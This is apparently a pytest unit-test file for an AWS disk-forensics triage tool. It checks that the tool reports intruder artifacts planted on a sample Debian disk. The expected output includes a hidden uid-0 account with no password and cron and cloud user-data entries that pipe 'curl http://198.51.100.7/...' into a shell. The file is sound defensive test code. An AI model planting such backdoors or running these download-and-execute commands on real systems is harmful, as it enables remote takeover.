# Copyright (c) 2026 The dfir.aws authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A look into a disk with a small system and an intruder on it: the same from an image, an E01 and a snapshot."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.dfir.aws.plugins.module_utils.ebs.blocks import BLOCK_SIZE
from ansible_collections.dfir.aws.plugins.module_utils.ebs.errors import BadInput, EngineError
from ansible_collections.dfir.aws.plugins.module_utils.triage.look import Triage, Wish
from ansible_collections.dfir.aws.plugins.module_utils.triage.sources import ImageSource, SnapshotSource, segments

from tests.unit.ebs.engine_kit import SharedKit, engine
from tests.unit.triage.triage_kit import SYSTEM, disk, ext4, tree, triage


@pytest.fixture(scope="module")
def system(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A disk whose first partition holds the system."""
    folder = tmp_path_factory.mktemp("system")
    root = ext4(folder / "root.img", tree(folder / "root", SYSTEM))
    return disk(folder / "disk.img", [root.read_bytes()])


def blocks_of(image: Path) -> dict[int, bytes]:
    data = image.read_bytes()
    cut = {place // BLOCK_SIZE: data[place:place + BLOCK_SIZE].ljust(BLOCK_SIZE, b"\0")
           for place in range(0, len(data), BLOCK_SIZE)}
    return {index: block for index, block in cut.items() if any(block)}


def facts(one: Triage) -> dict[str, str]:
    return {fact["label"]: fact["value"] for fact in one.facts}


def rows(one: Triage, table: str) -> list[dict[str, Any]]:
    return next(found["rows"] for found in one.tables if found["id"] == table)


def what(one: Triage) -> dict[str, Any]:
    """All of a report but where and when it was made."""
    report = one.report()
    return {key: report[key] for key in ("facts", "warnings", "not_read", "partitions", "counts", "findings", "tables")}


def test_the_first_screen_says_which_system_it_is(system: Path) -> None:
    found = facts(triage(system))
    assert found["System"] == "Debian GNU/Linux 12 (bookworm)" and found["Host name"] == "web-01"
    assert found["Instance"] == "i-0123456789abcdef0" and found["Time zone"] == "Europe/Berlin"
    assert found["Kernels"] == "6.1.0-18-cloud-amd64" and found["Network"] == "10.0.3.17/24"
    assert found["Accounts"] == "4, of which 3 have a login shell" and found["Packages"] == "2"


def test_who_could_get_in(system: Path) -> None:
    one = triage(system)
    accounts = {row["name"]: row for row in rows(one, "accounts")}
    assert accounts["sysbackup"]["uid"] == 0 and accounts["sysbackup"]["password"] == "none: empty"
    assert accounts["deploy"]["password"] == "set (yescrypt)" and accounts["www-data"]["password"] == "locked"
    assert rows(one, "groups") == [{"name": "root", "gid": 0, "members": "root, sysbackup"},
                                   {"name": "sudo", "gid": 27, "members": "deploy"}]
    [key] = rows(one, "keys")
    assert key["account"] == "deploy" and key["comment"] == "anna@office"
    assert [row["rule"] for row in rows(one, "sudoers")] == ["root ALL=(ALL:ALL) ALL", "deploy ALL=(ALL) NOPASSWD: ALL"]


@pytest.mark.skipif(not shutil.which("ssh-keygen"), reason="ssh-keygen says what a fingerprint is")
def test_a_fingerprint_is_that_of_ssh_keygen(system: Path) -> None:
    [row] = rows(triage(system), "keys")
    said = subprocess.run(["ssh-keygen", "-lf", "-"], capture_output=True, text=True, check=False,
                          input=SYSTEM["home/deploy/.ssh/authorized_keys"])
    assert said.returncode or row["fingerprint"] in said.stdout
    assert row["fingerprint"].startswith("SHA256:") and "=" not in row["fingerprint"]


def test_what_starts_by_itself(system: Path) -> None:
    found = {(row["kind"], row["path"]): row["what"] for row in rows(triage(system), "autostart")}
    assert found["cron", "/etc/cron.d/gc"] == "*/10 * * * * root curl -s http://198.51.100.7/x | bash"
    assert found["boot", "/etc/rc.local"] == "/usr/local/bin/start-shop"
    assert found["user data", "/var/lib/cloud/instance/user-data.txt"] == "curl http://198.51.100.7/boot | sh"


def test_what_looks_wrong_has_a_reason_and_comes_worst_first(system: Path) -> None:
    report = triage(system).report()
    found = {(item["rule"], item["path"]): item for item in report["findings"]}
    assert found["uid0_duplicate", "/etc/passwd"]["severity"] == "high"
    job = found["cron_job", "/etc/cron.d/gc"]
    assert job["severity"] == "high" and "into a shell" in job["reason"] and job["inode"] and job["times"]["m"]
    order = ["critical", "high", "medium", "low", "info"]
    places = [order.index(item["severity"]) for item in report["findings"]]
    assert places == sorted(places) and all(item["partition"] == "p1" for item in report["findings"])
    assert sum(report["counts"].values()) == len(report["findings"]) and json.dumps(report)


def test_an_unreplayed_journal_is_the_first_warning(system: Path, tmp_path: Path) -> None:
    image = shutil.copy(system, tmp_path / "dirty.img")
    with Path(image).open("r+b") as file:
        place = (1 << 20) + 1024 + 0x60  # the flag needs_recovery of the superblock
        file.seek(place)
        flags = file.read(1)[0]
        file.seek(place)
        file.write(bytes([flags | 4]))
    one = triage(Path(image))
    assert "the journal holds changes" in one.warnings[0] and one.report()["partitions"][0]["journal_dirty"] is True
    assert triage(system).warnings == []


def test_an_e01_says_the_same_as_the_image(system: Path, tmp_path: Path) -> None:
    if not shutil.which("ewfacquirestream"):
        pytest.skip("libewf's tools (ewf-tools) make the E01")
    with system.open("rb") as file:
        subprocess.run(["ewfacquirestream", "-q", "-c", "fast", "-S", "1 MiB", "-t", tmp_path / "disk"],
                       stdin=file, check=True, capture_output=True)
    source = ImageSource(tmp_path / "disk.E01")
    assert source.kind == "e01" and source.size == system.stat().st_size
    assert what(Triage(source, Wish()).run()) == what(triage(system))


def test_the_segments_of_an_e01_are_found_in_their_order(tmp_path: Path) -> None:
    names = ["E01", "E02", *(f"E{number:02d}" for number in range(3, 100)), "EAA", "EAB"]
    for name in [*names, "EAD"]:
        (tmp_path / f"web.{name}").touch()
    assert [path.suffix[1:] for path in segments(tmp_path / "web.E01")] == names
    assert segments(tmp_path / "web.raw") == [tmp_path / "web.raw"]


@pytest.mark.parametrize("name", ["missing.img", "."])
def test_an_image_that_cannot_be_opened_is_one_sentence(tmp_path: Path, name: str) -> None:
    with pytest.raises(BadInput, match="cannot be opened"):
        ImageSource(tmp_path / name)


@pytest.mark.slow
class TestSnapshot:
    """The lab's EBS direct in between."""

    def source(self, kit: SharedKit, system: Path, **options: Any) -> SnapshotSource:
        return SnapshotSource(engine(kit), kit.snapshot(blocks_of(system)), **options)

    def test_a_snapshot_says_the_same_as_its_image_and_costs_what_is_needed(
            self, kit: SharedKit, system: Path) -> None:
        source = self.source(kit, system)
        assert what(Triage(source, Wish()).run()) == what(triage(system))
        cost = source.cost()
        assert 0 < cost["blocks_read"] <= len(blocks_of(system))
        assert cost["bytes_read"] == cost["blocks_read"] * BLOCK_SIZE
        source.close()

    def test_a_budget_that_ends_is_said_and_nothing_is_concluded_from_it(self, kit: SharedKit, system: Path) -> None:
        whole = {(item["rule"], item["path"], item["reason"]) for item in triage(system).report()["findings"]}
        cut = 0
        for limit in range(1, len(blocks_of(system)) + 1):
            source = self.source(kit, system, limit=limit)
            try:
                one = Triage(source, Wish()).run()
            except EngineError as error:
                assert "budget" in str(error)
                continue
            finally:
                source.close()
            report = one.report()
            found = {(item["rule"], item["path"], item["reason"]) for item in report["findings"]}
            assert found <= whole, f"with {limit} blocks something was made up"
            if found != whole:
                cut += 1
                assert any("budget" in sentence for sentence in report["not_read"])
            assert report["source"]["blocks_read"] <= limit == report["source"]["limit_blocks"]
        assert cut, "no limit cut anything"

    def test_what_fails_for_ever_ends_it_with_its_cause_though_readers_swallow_errors(
            self, kit: SharedKit, system: Path) -> None:
        whole = self.source(kit, system, connections=1)
        Triage(whole, Wish()).run()
        whole.close()
        for block in whole.file.blocks.access.wanted:
            kit.faults.arm("ebs.corrupt", times=None, match={"block": block})
            source = self.source(kit, system, connections=1)
            with pytest.raises(EngineError) as failed:
                Triage(source, Wish()).run()
            assert list(failed.value.failed_blocks) == [block]
            source.close()
            kit.faults.clear()


def test_a_log_is_not_read_byte_by_byte(tmp_path: Path) -> None:
    lines = "".join(f"Sep  1 00:00:00 web-01 app[1]: line {number}\n" for number in range(20_000))
    image = ext4(tmp_path / "root.img", tree(tmp_path / "root", {**SYSTEM, "var/log/auth.log": lines}))
    one = triage(image)
    [(_part, found)] = one.trees
    stream = found.open("/var/log/auth.log")
    assert stream is not None
    asked = 0
    inner = stream.raw  # type: ignore[attr-defined]
    original = inner.readinto

    def count(buffer: Any) -> Any:
        nonlocal asked
        asked += 1
        return original(buffer)

    inner.readinto = count
    assert sum(1 for _line in stream) == 20_000
    assert asked < 50, f"{asked} reads for {len(lines) >> 10} KiB"
